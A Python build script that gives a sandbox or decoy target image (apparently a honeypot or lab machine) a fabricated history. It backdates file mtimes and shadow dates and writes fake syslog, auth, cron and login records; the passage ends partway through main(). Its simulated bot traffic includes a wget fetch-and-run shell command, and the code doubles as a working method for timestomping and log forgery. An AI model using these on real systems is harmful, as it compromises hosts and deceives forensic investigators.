#!/usr/bin/env python3
"""Give a freshly built SandTrap target image a past: dates and logs.

Run once by build.sh at the end of an image build (as root, inside the image). Owns two jobs:
moving every timestamp the build left behind (file mtimes, dpkg/apt logs, shadow dates) into
the fake past that build.sh's phases describe, and writing the logs of the weeks before the
build (syslog, auth.log, cron.log, kern.log, nginx, wtmp/btmp/lastlog, app backups), consistent
with the crontabs, users, keys and histories the image really has. build.sh owns everything
else. Output depends only on the build time and host name. Running it again is harmless.
"""

from __future__ import annotations

import argparse
import base64
import datetime as dt
import gzip
import hashlib
import os
import pwd
import random
import re
import shutil
import socket
import struct
import subprocess
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

UTC = dt.timezone.utc  # noqa: UP017 - datetime.UTC is 3.11+, Ubuntu 22.04 has 3.10
DAY = 86400
ROTATE_HOUR = (6, 25)  # cron.daily runs logrotate at 06:25 (/etc/crontab)

# -- time mapping --------------------------------------------------------------------------


@dataclass(frozen=True)
class Phase:
    start: float  # real time the phase began during the build
    name: str
    target: float  # fake time the phase maps to


class TimeMap:
    """Maps real build-time timestamps into the fake past.

    A timestamp inside phase i keeps its offset from the phase start; timestamps from the base
    image (before the first phase, not older than `base_lo`) end just before the install.
    Anything older (package mtimes, the base's own history) is left alone.
    """

    def __init__(self, phases: list[Phase], base_lo: float, base_hi: float) -> None:
        self.phases = phases
        self.base_lo = base_lo
        self.base_hi = base_hi

    def covers(self, t: float) -> bool:
        return t >= self.base_lo

    def __call__(self, t: float) -> float:
        if t < self.base_lo:
            return t
        first = self.phases[0]
        if t < first.start:
            return min(first.target - 300 - (self.base_hi - t), first.target - 60)
        current = first
        for p in self.phases:
            if t >= p.start:
                current = p
        return current.target + (t - current.start)


def read_phases(state: Path, build: dt.datetime) -> list[Phase]:
    midnight = build.replace(hour=0, minute=0, second=0, microsecond=0)
    phases = []
    for line in (state / "phases").read_text().splitlines():
        start, name, days, hhmm = line.split()
        hh, mm = (int(x) for x in hhmm.split(":"))
        target = midnight - dt.timedelta(days=int(days)) + dt.timedelta(hours=hh, minutes=mm)
        phases.append(Phase(float(start), name, target.timestamp()))
    return phases


STAMP_RE = re.compile(r"(\d{4}-\d{2}-\d{2})(\s+)(\d{2}:\d{2}:\d{2})")
SHIFTED_LOGS = [
    "/var/log/dpkg.log",
    "/var/log/alternatives.log",
    "/var/log/apt/history.log",
    "/var/log/apt/term.log",
]


def log_stamps(path: str) -> Iterator[float]:
    try:
        text = Path(path).read_text(errors="replace")
    except FileNotFoundError:
        return
    for m in STAMP_RE.finditer(text):
        when = dt.datetime.strptime(f"{m.group(1)} {m.group(3)}", "%Y-%m-%d %H:%M:%S")
        yield when.replace(tzinfo=UTC).timestamp()


def shift_package_logs(tmap: TimeMap) -> None:
    def repl(m: re.Match[str]) -> str:
        when = dt.datetime.strptime(f"{m.group(1)} {m.group(3)}", "%Y-%m-%d %H:%M:%S")
        t = when.replace(tzinfo=UTC).timestamp()
        if not tmap.covers(t):
            return m.group(0)
        new = dt.datetime.fromtimestamp(int(tmap(t)), UTC)
        return f"{new:%Y-%m-%d}{m.group(2)}{new:%H:%M:%S}"

    for path in SHIFTED_LOGS:
        p = Path(path)
        if p.exists():
            p.write_text(STAMP_RE.sub(repl, p.read_text(errors="replace")))


def sweep_mtimes(tmap: TimeMap, skip: set[str]) -> None:
    """Re-date every file of the root filesystem whose mtime the build (or base) set."""
    root_dev = os.lstat("/").st_dev
    stack = ["/"]
    while stack:
        d = stack.pop()
        try:
            entries = list(os.scandir(d))
        except OSError:
            continue
        for e in entries:
            if e.path in skip:
                continue
            try:
                st = e.stat(follow_symlinks=False)
            except OSError:
                continue
            if st.st_dev != root_dev:
                continue  # /proc, /sys, /dev, bind mounts of the build container
            if e.is_dir(follow_symlinks=False):
                stack.append(e.path)
            restamp(e.path, st.st_mtime, tmap)
    st = os.lstat("/")
    restamp("/", st.st_mtime, tmap)


def restamp(path: str, mtime: float, tmap: TimeMap) -> None:
    if tmap.covers(mtime):
        set_mtime(path, tmap(mtime))


def set_mtime(path: str | Path, t: float) -> None:
    ns = int(t * 1e9)
    os.utime(path, ns=(ns, ns), follow_symlinks=False)


def fix_shadow_dates(tmap: TimeMap, install_day: int) -> None:
    """Password-change days: the build's days become the day the account was set up."""
    shadow = Path("/etc/shadow")
    st = shadow.stat()
    lo_day = int(tmap.base_lo // DAY)
    out = []
    for line in shadow.read_text().splitlines():
        f = line.split(":")
        if len(f) > 2 and f[2].isdigit() and int(f[2]) >= lo_day:
            day = install_day
            try:
                home = pwd.getpwnam(f[0]).pw_dir
                if home.startswith("/home/"):
                    day = int(os.stat(home).st_mtime // DAY)
            except (KeyError, OSError):
                pass
            f[2] = str(day)
        out.append(":".join(f))
    shadow.write_text("\n".join(out) + "\n")
    os.chmod(shadow, st.st_mode & 0o7777)
    os.chown(shadow, st.st_uid, st.st_gid)
    os.utime(shadow, ns=(st.st_atime_ns, st.st_mtime_ns))


# -- cron ----------------------------------------------------------------------------------

NAMES = {
    **{d: i for i, d in enumerate(["sun", "mon", "tue", "wed", "thu", "fri", "sat"])},
    **{m: i + 1 for i, m in enumerate(
        ["jan", "feb", "mar", "apr", "may", "jun", "jul", "aug", "sep", "oct", "nov", "dec"])},
}
MACROS = {"@hourly": "0 * * * *", "@daily": "0 0 * * *", "@midnight": "0 0 * * *",
          "@weekly": "0 0 * * 0", "@monthly": "0 0 1 * *", "@yearly": "0 0 1 1 *",
          "@annually": "0 0 1 1 *"}


def cron_field(text: str, lo: int, hi: int) -> set[int]:
    values: set[int] = set()
    for part in text.lower().split(","):
        rng, _, step = part.partition("/")
        if rng == "*":
            a, b = lo, hi
        elif "-" in rng:
            x, y = rng.split("-", 1)
            a, b = int(NAMES.get(x, x)), int(NAMES.get(y, y))
        else:
            a = b = int(NAMES.get(rng, rng))
            if step:
                b = hi
        values.update(range(a, b + 1, int(step) if step else 1))
    return values


@dataclass(frozen=True)
class CronJob:
    minutes: frozenset[int]
    hours: frozenset[int]
    doms: frozenset[int]
    months: frozenset[int]
    dows: frozenset[int]
    dom_any: bool
    dow_any: bool
    user: str
    command: str

    def due(self, t: dt.datetime) -> bool:
        if t.minute not in self.minutes or t.hour not in self.hours:
            return False
        if t.month not in self.months:
            return False
        dow = (t.weekday() + 1) % 7
        dom_ok, dow_ok = t.day in self.doms, dow in self.dows
        if self.dom_any or self.dow_any:
            return dom_ok and dow_ok
        return dom_ok or dow_ok  # cron(5): either field matches when both are restricted


def parse_crontab(path: Path, user: str | None) -> list[CronJob]:
    jobs = []
    for raw in path.read_text(errors="replace").splitlines():
        line = raw.strip()
        if not line or line.startswith("#") or re.match(r"^[A-Za-z_]+\s*=", line):
            continue
        if line.startswith("@"):
            macro, _, rest = line.partition(" ")
            if macro not in MACROS:
                continue  # @reboot
            line = f"{MACROS[macro]} {rest.strip()}"
        # System crontabs carry a user field between the schedule and the command.
        parts = line.split(None, 6 if user is None else 5)
        if len(parts) < (7 if user is None else 6):
            continue
        fields = parts[:5]
        who, cmd = (parts[5], parts[6]) if user is None else (user, parts[5])
        dows = cron_field(fields[4], 0, 7)
        if 7 in dows:
            dows = (dows - {7}) | {0}
        jobs.append(CronJob(
            frozenset(cron_field(fields[0], 0, 59)), frozenset(cron_field(fields[1], 0, 23)),
            frozenset(cron_field(fields[2], 1, 31)), frozenset(cron_field(fields[3], 1, 12)),
            frozenset(dows), fields[2] == "*", fields[4] == "*", who, cmd.strip()))
    return jobs


def load_cron_jobs() -> list[CronJob]:
    jobs = []
    if Path("/etc/crontab").exists():
        jobs += parse_crontab(Path("/etc/crontab"), None)
    cron_d = Path("/etc/cron.d")
    if cron_d.is_dir():
        for p in sorted(cron_d.iterdir()):
            if p.is_file() and not p.name.startswith(".") and p.name != "README":
                jobs += parse_crontab(p, None)
    spool = Path("/var/spool/cron/crontabs")
    if spool.is_dir():
        for p in sorted(spool.iterdir()):
            jobs += parse_crontab(p, p.name)
    return jobs


# -- the fake past -------------------------------------------------------------------------

ATTACK_USERS = (["root"] * 30 + ["admin"] * 4 + [
    "test", "user", "ubuntu", "oracle", "postgres", "git", "ftpuser", "guest", "pi", "support",
    "deploy", "minecraft", "hadoop", "steam", "debian", "centos", "mysql", "test1", "user1",
    "dev", "jenkins", "ansible", "www", "web", "nagios", "es", "elastic", "kafka", "redis",
    "tomcat", "odoo", "sonar", "vagrant", "docker", "ftp", "operator", "teamspeak", "ts3",
    "administrator", "super", "sysadmin", "backup", "testuser", "frappe", "solana", "sol",
    "validator", "node", "nginx", "apache", "zabbix", "gitlab", "ubnt", "usuario", "client",
])
BROWSER_UA = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/{v}.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/{v}.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:{f}.0) Gecko/20100101 Firefox/{f}.0",
]
BOT_REQUESTS = [
    ("GET / HTTP/1.1", 302, 199), ("GET / HTTP/1.0", 302, 199), ("GET /.env HTTP/1.1", 403, 153),
    ("GET /.git/config HTTP/1.1", 403, 153), ("GET /wp-login.php HTTP/1.1", 404, 207),
    ("GET /xmlrpc.php HTTP/1.1", 404, 207), ("GET /phpmyadmin/ HTTP/1.1", 404, 207),
    ("GET /robots.txt HTTP/1.1", 404, 207), ("GET /favicon.ico HTTP/1.1", 204, 0),
    ("POST /boaform/admin/formLogin HTTP/1.1", 404, 207),
    ("GET /cgi-bin/luci/;stok=/locale HTTP/1.1", 404, 207),
    ("GET /actuator/health HTTP/1.1", 404, 207), ("GET /server-status HTTP/1.1", 404, 207),
    ("GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1", 404, 207),
    ("GET /wp-content/plugins/wp-file-manager/readme.txt HTTP/1.1", 404, 207),
    ("GET /api/v1/items HTTP/1.1", 401, 317), ("GET /login HTTP/1.1", 200, 731),
    ("GET /owa/auth/logon.aspx HTTP/1.1", 404, 207), ("GET /.aws/credentials HTTP/1.1", 403, 153),
    ("GET /config.json HTTP/1.1", 404, 207), ("GET /backup.zip HTTP/1.1", 404, 207),
    ('\\x16\\x03\\x01\\x00\\xee\\x01\\x00\\x00\\xea\\x03\\x03', 400, 157),
    ("CONNECT www.google.com:443 HTTP/1.1", 400, 157),
    ("GET /shell?cd+/tmp;rm+-rf+*;wget+http://{ip}/bins/x86;chmod+777+x86;./x86 HTTP/1.1",
     404, 207),
]
BOT_UA = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 zgrab/0.x", "python-requests/2.31.0", "Go-http-client/1.1", "curl/7.68.0",
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/81.0.4044.129 Safari/537.36", "Hello World", "-",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
]
SUDO_ADMIN = [
    "/usr/bin/apt update", "/usr/bin/apt upgrade", "/usr/bin/tail -f /var/log/nginx/error.log",
    "/usr/bin/systemctl status inventory", "/usr/bin/systemctl restart inventory",
    "/usr/bin/less /var/log/auth.log", "/usr/bin/journalctl -u inventory -n 50",
    "/usr/bin/systemctl reload nginx", "/usr/sbin/nginx -t", "/usr/bin/crontab -l -u deploy",
]
SUDO_DEPLOY = ["/usr/bin/systemctl restart inventory", "/usr/bin/systemctl status inventory",
               "/usr/bin/systemctl reload nginx"]


@dataclass
class Login:
    user: str
    ip: str
    start: float
    end: float
    key: str  # authorized_keys comment
    tty: bool = True
    sudo: list[tuple[float, str]] = field(default_factory=list)


@dataclass(order=True)
class Line:
    t: float
    tag: str = field(compare=False)
    msg: str = field(compare=False)
    files: tuple[str, ...] = field(compare=False)


class Past:
    """Plans who did what when, then renders it in each log's own format."""

    def __init__(self, rng: random.Random, now: float, install: float, web: float,
                 reboots: list[float], host: str, pam_uid: bool, rsyslog_version: str) -> None:
        self.rng = rng
        self.rsyslog_version = rsyslog_version
        self.pam_uid = pam_uid
        self.now = now
        self.install = install
        self.web = web
        self.reboots = reboots
        self.host = host
        self.boots = sorted([install, *reboots])
        self.rsyslog_pids = {b: rng.randint(380, 460) for b in self.boots}
        self.office = [public_ip(rng) for _ in range(2)]
        self.home_ip = public_ip(rng)
        self.ci_ip = public_ip(rng)
        self.logins: list[Login] = []
        self.fails: list[tuple[float, str, str]] = []  # time, user, ip (for btmp)

    def rsyslog_msg(self, t: float, what: str) -> str:
        return (f'[origin software="rsyslogd" swVersion="{self.rsyslog_version}" '
                f'x-pid="{self.rsyslog_pid(t)}" x-info="https://www.rsyslog.com"] {what}')

    def pam_user(self, name: str) -> str:
        """PAM >= 1.5 (Debian 12) logs "user(uid=N)"; older PAM (Ubuntu 22.04) just the name."""
        return f"{name}(uid={uid_of(name)})" if self.pam_uid else name

    def boot_of(self, t: float) -> float:
        return max((b for b in self.boots if b <= t), default=self.boots[0])

    def pid_at(self, t: float) -> int:
        """PIDs grow with uptime (~3500 new processes a day) and restart low after a boot."""
        return 900 + int((t - self.boot_of(t)) * PID_RATE) + self.rng.randint(0, 3)

    def rsyslog_pid(self, t: float) -> int:
        return self.rsyslog_pids[self.boot_of(t)]

    # people ------------------------------------------------------------------------------
    def plan_logins(self, finals: dict[str, float]) -> None:
        rng = self.rng
        day0 = day_start(self.install) + DAY
        t = day0
        while t < self.now - 2 * DAY:
            d = dt.datetime.fromtimestamp(t, UTC)
            weekday = d.weekday() < 5
            if weekday and rng.random() < 0.35:
                self.add_login("admin", t + rng.randint(8 * 3600, 17 * 3600), 300, 2400)
            if t > self.web and weekday and rng.random() < 0.18:
                self.add_login("deploy", t + rng.randint(9 * 3600, 18 * 3600), 120, 1500,
                               key="admin@ops-laptop")
            if t > self.web and d.weekday() in (1, 3) and rng.random() < 0.6:
                start = t + rng.randint(10 * 3600, 16 * 3600)
                login = Login("deploy", self.ci_ip, start, start + rng.randint(6, 25),
                              "deploy@ci-runner", tty=False)
                login.sudo.append((start + 3, "/usr/bin/systemctl restart inventory"))
                self.logins.append(login)
            t += DAY
        for r in self.reboots:  # someone was logged in to upgrade and reboot
            self.add_login("admin", r - rng.randint(900, 1500), 0, 0, end=r - 30,
                           sudo=["/usr/bin/apt update", "/usr/bin/apt upgrade",
                                 "/usr/sbin/reboot"])
            self.add_login("admin", r + rng.randint(180, 400), 120, 400)
        for user, end in finals.items():
            self.add_login(user, end - rng.randint(600, 1800), 0, 0, end=end,
                           key="admin@ops-laptop")
        self.logins.sort(key=lambda lg: lg.start)

    def add_login(self, user: str, start: float, lo: int, hi: int, *, end: float | None = None,
                  key: str = "admin@ops-laptop", sudo: list[str] | None = None) -> None:
        rng = self.rng
        ip = rng.choice(self.office) if rng.random() < 0.75 else self.home_ip
        stop = end if end is not None else start + rng.randint(lo, hi)
        login = Login(user, ip, start, stop, key)
        cmds = sudo or rng.sample(SUDO_ADMIN if user == "admin" else SUDO_DEPLOY,
                                  k=rng.randint(0, 3 if user == "admin" else 1))
        span = max(stop - start - 20, 10)
        for i, cmd in enumerate(cmds):
            login.sudo.append((start + 15 + span * (i + 1) / (len(cmds) + 1), cmd))
        self.logins.append(login)

    # internet noise --------------------------------------------------------------------------
    def brute_force(self, since: float) -> list[Line]:
        rng, lines = self.rng, []
        pool = [public_ip(rng) for _ in range(400)]
        t = since
        while t < self.now:
            t += rng.expovariate(1 / 1200)  # a new attacker connection every ~20 minutes
            if t >= self.now:
                break
            ip = pool[min(int(rng.paretovariate(1.2)) - 1, len(pool) - 1)] \
                if rng.random() < 0.6 else public_ip(rng)
            lines += self.attack(t, ip)
        return lines

    def attack(self, t: float, ip: str) -> list[Line]:
        rng, out = self.rng, []
        kind = rng.random()
        pid = self.pid_at(t)
        port = rng.randint(1024, 65535)

        def auth(dt_: float, msg: str) -> None:
            out.append(Line(t + dt_, f"sshd[{pid}]", msg, ("auth",)))

        if kind < 0.18:  # scanners: connect, maybe banner, leave
            choice = rng.random()
            if choice < 0.4:
                auth(0, f"Connection closed by {ip} port {port} [preauth]")
            elif choice < 0.7:
                auth(0, "error: kex_exchange_identification: Connection closed by remote host")
                auth(0, f"Connection closed by {ip} port {port}")
            elif choice < 0.85:
                auth(0, f"banner exchange: Connection from {ip} port {port}: invalid format")
            else:
                auth(0, f"Unable to negotiate with {ip} port {port}: no matching host key type "
                        "found. Their offer: ssh-rsa,ssh-dss [preauth]")
            return out
        user = rng.choice(ATTACK_USERS)
        exists = user in ("root", "admin", "deploy") or _user_exists(user)
        tries = 1 if rng.random() < 0.7 else rng.randint(2, 6)
        off = rng.uniform(0.2, 1.5)
        if not exists:
            auth(off, f"Invalid user {user} from {ip} port {port}")
        for i in range(tries):
            if not exists:
                auth(off + 0.01, "pam_unix(sshd:auth): check pass; user unknown")
            if i == 0:
                suffix = f"  user={user}" if exists else ""
                auth(off + 0.02, "pam_unix(sshd:auth): authentication failure; logname= uid=0 "
                                 f"euid=0 tty=ssh ruser= rhost={ip}{suffix}")
            off += rng.uniform(1.8, 3.5)
            inv = "" if exists else "invalid user "
            auth(off, f"Failed password for {inv}{user} from {ip} port {port} ssh2")
            self.fails.append((t + off, user, ip))
        if tries >= 3:
            suffix = f"  user={user}" if exists else ""
            auth(off + 0.1, f"PAM {tries - 1} more authentication failures; logname= uid=0 euid=0 "
                            f"tty=ssh ruser= rhost={ip}{suffix}")
        inv = "authenticating user" if exists else "invalid user"
        if rng.random() < 0.7:
            auth(off + 0.3, f"Received disconnect from {ip} port {port}:11: Bye Bye [preauth]")
            auth(off + 0.3, f"Disconnected from {inv} {user} {ip} port {port} [preauth]")
        else:
            auth(off + 0.3, f"Connection closed by {inv} {user} {ip} port {port} [preauth]")
        return out

    # render ----------------------------------------------------------------------------------
    def login_lines(self, login: Login, fp: Callable[[str], str], tty_no: int) -> list[Line]:
        pid = self.pid_at(login.start)
        child = pid + 2
        port = self.rng.randint(40000, 65000)
        uid = uid_of(login.user)
        fpr = fp(login.key)
        out = [
            Line(login.start, f"sshd[{pid}]",
                 f"Accepted publickey for {login.user} from {login.ip} port {port} ssh2: "
                 f"ED25519 SHA256:{fpr}", ("auth",)),
            Line(login.start, f"sshd[{pid}]",
                 f"pam_unix(sshd:session): session opened for user {self.pam_user(login.user)} "
                 "by (uid=0)", ("auth",)),
        ]
        home = pwd.getpwnam(login.user).pw_dir if _user_exists(login.user) else "/"
        for when, cmd in login.sudo:
            tty = f"pts/{tty_no}" if login.tty else "unknown"
            pwd_ = "/srv/www/inventory" if "inventory" in cmd and login.user == "deploy" else home
            out += [
                Line(when, "sudo", f"{login.user:>8} : TTY={tty} ; PWD={pwd_} ; USER=root ; "
                                   f"COMMAND={cmd}", ("auth",)),
                Line(when, "sudo", "pam_unix(sudo:session): session opened for user "
                                   f"{self.pam_user('root')} by {login.user}(uid={uid})",
                     ("auth",)),
                Line(when + self.rng.uniform(0.5, 40), "sudo",
                     "pam_unix(sudo:session): session closed for user root", ("auth",)),
            ]
        if login.sudo and login.sudo[-1][1].endswith("reboot"):
            return out  # the session dies with the machine
        out += [
            Line(login.end, f"sshd[{child}]",
                 f"Received disconnect from {login.ip} port {port}:11: disconnected by user",
                 ("auth",)),
            Line(login.end, f"sshd[{child}]",
                 f"Disconnected from user {login.user} {login.ip} port {port}", ("auth",)),
            Line(login.end, f"sshd[{pid}]",
                 f"pam_unix(sshd:session): session closed for user {login.user}", ("auth",)),
        ]
        return out

    def cron_lines(self, jobs: list[CronJob], since: float) -> list[Line]:
        out = []
        t = int(since // 60 + 1) * 60
        while t < self.now:
            d = dt.datetime.fromtimestamp(t, UTC)
            for job in jobs:
                if not job.due(d):
                    continue
                if any(r - 60 < t < r + 120 for r in self.reboots):
                    continue
                at = t + self.rng.uniform(0.5, 1.0)
                pid = self.pid_at(at)
                out += [
                    Line(at, f"CRON[{pid}]", f"pam_unix(cron:session): session opened for user "
                                             f"{self.pam_user(job.user)} by (uid=0)", ("auth",)),
                    Line(at + 0.001, f"CRON[{pid + 1}]", f"({job.user}) CMD ({job.command})",
                         ("syslog", "cron")),
                    Line(at + self.rng.uniform(0.01, 2.0), f"CRON[{pid}]",
                         f"pam_unix(cron:session): session closed for user {job.user}",
                         ("auth",)),
                ]
                if "cron.daily" in job.command:
                    out.append(Line(at + 1.5, "rsyslogd",
                                    self.rsyslog_msg(at, "rsyslogd was HUPed"), ("syslog",)))
            t += 60
        return out

    def boot_lines(self, r: float, kernel: str) -> list[Line]:
        rs = self.rsyslog_pid(r)
        cron = rs + self.rng.randint(20, 60)
        sshd = cron + self.rng.randint(5, 30)
        k = "kern"
        return [
            Line(r - 20, f"sshd[{self.rng.randint(500, 900)}]",
                 "Received signal 15; terminating.", ("auth",)),
            Line(r - 12, "rsyslogd", self.rsyslog_msg(r - 12, "exiting on signal 15."),
                 ("syslog",)),
            Line(r, "kernel", f"Linux version {kernel}", ("syslog", k)),
            Line(r, "kernel", "Hypervisor detected: KVM", ("syslog", k)),
            Line(r + 1, "kernel", "EXT4-fs (vda1): mounted filesystem with ordered data mode. "
                 "Quota mode: none.", ("syslog", k)),
            Line(r + 4, "kernel", "EXT4-fs (vda1): re-mounted. Quota mode: none.",
                 ("syslog", k)),
            Line(r + 6, "rsyslogd", self.rsyslog_msg(r + 6, "start"), ("syslog",)),
            Line(r + 7, f"cron[{cron}]", "(CRON) INFO (pidfile fd = 3)", ("syslog", "cron")),
            Line(r + 7, f"cron[{cron}]", "(CRON) INFO (Running @reboot jobs)",
                 ("syslog", "cron")),
            Line(r + 7, f"sshd[{sshd}]", "Server listening on 0.0.0.0 port 22.", ("auth",)),
            Line(r + 7, f"sshd[{sshd}]", "Server listening on :: port 22.", ("auth",)),
        ]



PID_RATE = 0.04


def _user_exists(name: str) -> bool:
    try:
        pwd.getpwnam(name)
    except KeyError:
        return False
    return True


def uid_of(name: str) -> int:
    try:
        return pwd.getpwnam(name).pw_uid
    except KeyError:
        return 0


def public_ip(rng: random.Random) -> str:
    while True:
        a = rng.randint(1, 223)
        b, c, d = rng.randint(0, 255), rng.randint(0, 255), rng.randint(1, 254)
        if a in (10, 127) or (a == 100 and 64 <= b < 128) or (a == 169 and b == 254):
            continue
        if (a == 172 and 16 <= b < 32) or (a == 192 and b == 168) or (a == 198 and b in (18, 19)):
            continue
        if (a, b, c) in ((192, 0, 2), (198, 51, 100), (203, 0, 113), (192, 0, 0)):
            continue
        return f"{a}.{b}.{c}.{d}"


def day_start(t: float) -> float:
    return t - t % DAY


def rotation_points(lo: float, hi: float, period: str) -> list[float]:
    """logrotate run times (cron.daily, 06:25) at which a log with this period rotates."""
    points = []
    t = day_start(lo) + ROTATE_HOUR[0] * 3600 + ROTATE_HOUR[1] * 60 + 20
    while t < hi:
        d = dt.datetime.fromtimestamp(t, UTC)
        if (period == "daily" or (period == "weekly" and d.weekday() == 6)
                or (period == "monthly" and d.day == 1)) and t > lo:
            points.append(t)
        t += DAY
    return points


# -- writers -------------------------------------------------------------------------------


def fmt_syslog(t: float, host: str, tag: str, msg: str, traditional: bool) -> str:
    d = dt.datetime.fromtimestamp(t, UTC)
    if traditional:
        return f"{d:%b} {d.day:2d} {d:%H:%M:%S} {host} {tag}: {msg}"
    return f"{d.isoformat(timespec='microseconds')} {host} {tag}: {msg}"


def write_rotated(path: Path, chunks: list[tuple[float, str]], period: str, keep: int,
                  since: float, until: float, owner: tuple[int, int], mode: int,
                  notifempty: bool = True) -> None:
    """Write `path` and its rotations as logrotate (compress, delaycompress) would have."""
    chunks.sort(key=lambda c: c[0])
    points = rotation_points(since, until, period)
    files: list[list[tuple[float, str]]] = []
    current: list[tuple[float, str]] = []
    i = 0
    created = since
    for p in [*points, until + 1]:
        while i < len(chunks) and chunks[i][0] < p:
            current.append(chunks[i])
            i += 1
        if p > until:
            break
        if current or not notifempty:
            files.insert(0, current)
            current = []
            created = p
    files.insert(0, current)
    for old in path.parent.glob(path.name + ".*"):
        if re.fullmatch(re.escape(path.name) + r"\.\d+(\.gz)?", old.name):
            old.unlink()
    for n, content in enumerate(files[: keep + 1]):
        text = "".join(line for _, line in content)
        mtime = content[-1][0] if content else created
        if n == 0:
            target = path
            target.write_text(text)
        elif n == 1:
            target = path.with_name(f"{path.name}.1")
            target.write_text(text)
        else:
            target = path.with_name(f"{path.name}.{n}.gz")
            with target.open("wb") as raw, gzip.GzipFile(
                    filename=f"{path.name}.{n}", mode="wb", fileobj=raw, mtime=int(mtime)) as gz:
                gz.write(text.encode())
        os.chown(target, *owner)
        os.chmod(target, mode)
        set_mtime(target, mtime)


UTMP = struct.Struct("<hxxi32s4s32s256shhiii16s20s")
LASTLOG = struct.Struct("<i32s256s")
BOOT_TIME, RUN_LVL, LOGIN_PROCESS, USER_PROCESS, DEAD_PROCESS = 2, 1, 6, 7, 8


def utmp_record(kind: int, pid: int, line: str, ident: str, user: str, host: str,
                t: float) -> bytes:
    try:
        addr = socket.inet_aton(host).ljust(16, b"\0")
    except OSError:
        addr = b"\0" * 16
    sec = int(t)
    return UTMP.pack(kind, pid, line.encode(), ident.encode(), user.encode(), host.encode(),
                     0, 0, 0, sec, int((t - sec) * 1e6), addr, b"")


def fingerprints() -> dict[str, str]:
    """authorized_keys comment -> OpenSSH SHA256 fingerprint, as sshd logs it."""
    out = {}
    for p in [*Path("/home").glob("*/.ssh/authorized_keys"), Path("/root/.ssh/authorized_keys")]:
        if not p.exists():
            continue
        for line in p.read_text().splitlines():
            parts = line.split()
            if len(parts) >= 3 and parts[0].startswith("ssh-"):
                blob = base64.b64decode(parts[1])
                digest = base64.b64encode(hashlib.sha256(blob).digest()).decode().rstrip("=")
                out[parts[2]] = digest
    return out


def group_id(name: str, default: int = 0) -> int:
    for line in Path("/etc/group").read_text().splitlines():
        f = line.split(":")
        if f[0] == name:
            return int(f[2])
    return default


def tool_version(cmd: list[str], pattern: str, default: str) -> str:
    try:
        out = subprocess.run(cmd, capture_output=True, text=True, check=False).stdout  # noqa: S603 - fixed argv
    except OSError:
        return default
    m = re.search(pattern, out)
    return m.group(1) if m else default


# -- main ----------------------------------------------------------------------------------


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--state", type=Path, required=True)
    ap.add_argument("--hostname", default="web01")
    args = ap.parse_args()

    build_epoch = float((args.state / "build-epoch").read_text())
    build = dt.datetime.fromtimestamp(build_epoch, UTC)
    phases = read_phases(args.state, build)
    first = phases[0].start
    base_stamps = [t for p in SHIFTED_LOGS for t in log_stamps(p) if t < first]
    # Only a base built just before this build is "the installer"; an older base (or a second
    # run over an already dated image) keeps its dates.
    base_stamps = [t for t in base_stamps if t > first - 2 * DAY]
    base_lo = min(base_stamps, default=first) - 600
    base_hi = max(base_stamps, default=first)
    tmap = TimeMap(phases, base_lo, base_hi)

    shift_package_logs(tmap)
    sweep_mtimes(tmap, skip={"/etc/hostname", "/etc/hosts", "/etc/resolv.conf",
                             str(Path(__file__).resolve().parent)})
    by_name = {p.name: p.target for p in phases}
    install = by_name.get("install", phases[0].target)
    web = by_name.get("web", install + DAY)
    fix_shadow_dates(tmap, int(install // DAY))

    # Seeded by host and build day: reproducible for one build, different between builds.
    seed = f"{args.hostname}:{build:%Y-%m-%d}"
    rng = random.Random(seed)  # noqa: S311 - fake logs, not security
    now = build_epoch - rng.randint(600, 1500)
    last_phase = phases[-1].target
    reboot = last_phase + rng.randint(900, 1500)  # after the last upgrade batch
    reboots = [r for r in (install + 1500, reboot) if r < now]
    kernel_rel = os.uname().release
    proc_version = Path("/proc/version").read_text().strip() if Path(
        "/proc/version").exists() else f"Linux version {kernel_rel}"
    kernel = proc_version.removeprefix("Linux version ")
    rsyslog_version = tool_version(["dpkg-query", "-W", "-f=${Version}", "rsyslog"],
                                   r"^([\d.]+)", "8.2302.0")
    curl_version = tool_version(["curl", "--version"], r"^curl ([\d.]+)", "7.88.1")

    # Who was logged in last: each history file ends with its owner's last session.
    finals = {"deploy": now - DAY - rng.randint(3 * 3600, 5 * 3600),
              "admin": now - 2 * DAY - rng.randint(2 * 3600, 4 * 3600)}
    pam = tool_version(["dpkg-query", "-W", "-f=${Version}", "libpam-modules"],
                       r"^(\d+\.\d+)", "1.5")
    pam_uid = tuple(int(x) for x in pam.split(".")) >= (1, 5)
    past = Past(rng, now, install, web, reboots, args.hostname, pam_uid, rsyslog_version)
    past.plan_logins(finals)
    fps = fingerprints()

    def fp(comment: str) -> str:
        return fps.get(comment) or base64.b64encode(
            hashlib.sha256(comment.encode()).digest()).decode().rstrip("=")

    # syslog family: four weekly rotations kept, so about five weeks of text.
    weekly = rotation_points(now - 40 * DAY, now, "weekly")
    since = weekly[-5] if len(weekly) >= 5 else now - 35 * DAY
    lines: list[Line] = []
    lines += past.cron_lines(load_cron_jobs(), since)
    lines += past.brute_force(since)
    tty = 0
    for login in past.logins:
        if login.start >= since:
            lines += past.login_lines(login, fp, tty)
    for r in reboots:
        if r >= since:
            lines += past.boot_lines(r, kernel)
    lines = [ln for ln in lines if ln.t < now]
    lines.sort()
    # Planned events fall on whole seconds; real ones do not. Shift each whole second by one
    # fraction so that lines logged together stay together and in order.
    fractions: dict[int, float] = {}
    for ln in lines:
        if ln.t == int(ln.t):
            ln.t += fractions.setdefault(int(ln.t), rng.uniform(0.0, 0.9))

    conf = read("/etc/rsyslog.conf")
